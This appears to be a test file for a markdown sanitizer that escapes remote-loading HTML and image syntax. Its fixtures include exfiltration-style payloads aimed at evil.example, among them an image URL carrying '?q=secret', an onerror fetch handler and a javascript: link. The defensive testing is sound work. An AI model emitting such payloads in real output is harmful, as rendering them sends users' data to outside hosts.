import { neutralizeRemoteContent } from '../../src/episode/safeMarkdown';

describe('neutralizeRemoteContent', () => {
  it.each([
    ['an HTML image', 'Total: 5 <img src="https://evil.example/t.png?q=secret">'],
    ['an upper-case, slash-separated image', 'x <IMG/SRC="http://evil.example/a">'],
    ['an image split over lines', '<img\n  src="//evil.example/a"\n  alt="chart">'],
    ['an image with an event handler', "<img src=x onerror='fetch(\"https://evil.example\")'>"],
    ['an iframe', '<iframe src="https://evil.example"></iframe>'],
    ['a video poster', '<video poster="https://evil.example/p.png"></video>'],
    ['a background in a style', '<div style="background:url(https://evil.example/b)">hi</div>'],
    ['an SVG image', '<svg><image href="https://evil.example/s.svg"/></svg>'],
    ['a stylesheet', '<link rel="stylesheet" href="https://evil.example/s.css">'],
    ['a picture source', '<picture><source srcset="https://evil.example/a.webp"></picture>']
  ])('turns %s into text', (_, markdown) => {
    const safe = neutralizeRemoteContent(markdown);
    expect(safe).not.toMatch(/<(img|iframe|video|div|svg|image|link|picture|source)\b/i);
    // The text stays readable: only the opening bracket changes.
    expect(safe.replace(/&lt;/g, '<')).toBe(markdown);
  });

  it.each([
    ['inline', 'East had the most ![chart](https://evil.example/c.png).'],
    ['reference', 'See ![chart][1]\n\n[1]: https://evil.example/c.png'],
    ['shortcut', '![logo]\n\n[logo]: http://evil.example/l.png']
  ])('escapes a markdown image (%s)', (_, markdown) => {
    const safe = neutralizeRemoteContent(markdown);
    expect(safe).not.toMatch(/!\[/);
    expect(safe).toContain('!\\[');
  });

  it('keeps inert formatting and plain links', () => {
    const markdown =
      '**East**: 25,864.65 <b>total</b><br>\n<details><summary>Why</summary>\n\nIt sums.\n\n</details>\n' +
      '[source](https://example.org) <a href="https://example.org/x">x</a>';
    expect(neutralizeRemoteContent(markdown)).toBe(markdown);
  });

  it('leaves code spans and fenced blocks as written', () => {
    const markdown = "Use `<img src='x'>` or:\n\n```html\n<img src=\"https://example.org/a.png\">\n![a](b)\n```\n\nthen <img src=\"https://evil.example\">";
    const safe = neutralizeRemoteContent(markdown);
    expect(safe).toContain("`<img src='x'>`");
    expect(safe).toContain('```html\n<img src="https://example.org/a.png">\n![a](b)\n```');
    expect(safe.endsWith('then &lt;img src="https://evil.example">')).toBe(true);
  });

  it('treats an unclosed fence as code to the end', () => {
    const markdown = 'Before <img src="a">\n```\n<img src="b">';
    expect(neutralizeRemoteContent(markdown)).toBe('Before &lt;img src="a">\n```\n<img src="b">');
  });

  it('escapes a link whose href is a script', () => {
    expect(neutralizeRemoteContent('<a href="javascript:alert(1)">x</a>')).toBe('&lt;a href="javascript:alert(1)">x</a>');
  });
});
